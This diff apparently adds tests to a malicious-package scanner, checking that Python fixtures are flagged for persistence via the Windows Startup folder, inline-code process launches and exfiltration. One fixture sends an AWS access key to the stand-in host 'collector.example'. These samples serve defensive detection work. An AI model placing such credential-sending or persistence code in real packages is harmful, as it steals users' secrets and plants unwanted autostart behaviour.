@@ -216,3 +216,38 @@ test("a function that posts the wallet private key it is given sends the user's 
   );
   assert.equal(ruleOf(signer, 'exfiltration'), undefined);
 });
+
+test('setup.py naming an autostart folder is high even through a variable; a module constant on import is data', () => {
+  const setup = findings(
+    'import os\nnewpath = rf"C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"\nos.makedirs(newpath)\n',
+    'setup.py',
+  );
+  assert.equal(ruleOf(setup, 'persistence')?.severity, 'high');
+  // on import, a module constant naming it (used by a function the user calls) is data
+  const constant = findings(
+    'STARTUP = r"Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"\ndef where():\n    return STARTUP\n',
+  );
+  assert.equal(ruleOf(constant, 'persistence')?.severity, 'medium');
+});
+
+test('sys.executable started with inline code on import reads as python -c: high', () => {
+  const list = findings(
+    'import subprocess, sys\nsubprocess.Popen(f\'{sys.executable} -c "import time; time.sleep(600)"\')\n',
+  );
+  const launch = ruleOf(list, 'process-launch-payload');
+  assert.equal(launch?.severity, 'high');
+  assert.match(launch!.message, /another Python running inline code/);
+});
+
+test("a provider's secret sent to a hard-coded host of another owner is high; to its own service it is not", () => {
+  const stolen = findings(
+    'import os, requests\ndef check():\n    requests.get("https://collector.example/k/" + os.environ["AWS_ACCESS_KEY_ID"])\n',
+  );
+  const sent = ruleOf(stolen, 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /a host that is not AWS's/);
+  const own = findings(
+    'import os, requests\ndef me():\n    requests.get("https://api.github.com/user", headers={"Authorization": os.environ["GITHUB_TOKEN"]})\n',
+  );
+  assert.notEqual(ruleOf(own, 'exfiltration')?.severity, 'high');
+});
